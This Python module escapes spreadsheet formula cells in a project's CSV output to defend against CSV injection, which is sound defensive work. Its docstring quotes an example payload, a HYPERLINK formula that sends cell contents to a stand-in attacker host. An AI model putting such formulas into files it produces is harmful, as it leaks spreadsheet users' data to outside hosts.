"""CSV that is safe to open in a spreadsheet: every CSV Canoe writes goes through `writer`.

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is read by
Excel, LibreOffice and Google Sheets as a formula, so a proposal titled
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would run in the auditor's spreadsheet
("CSV injection"). As OWASP advises, such a cell is written with a single quote in front: the
spreadsheet shows it as text, and a reader sees what was typed. Fullwidth forms (＝＋－＠),
which some spreadsheets in East Asian locales also take as formula starters, get the same.
"""
import csv
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value):
    """The value as it may go into a CSV cell: text that a spreadsheet would read as a formula gets
    a leading single quote; everything else (numbers included) is left as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer whose rows have every cell passed through `safe_cell`."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]):
        for row in rows:
            self.writerow(row)


def writer(stream, **options) -> _SafeWriter:
    """A csv.writer for `stream` that neutralises formula cells (see `safe_cell`)."""
    return _SafeWriter(stream, **options)
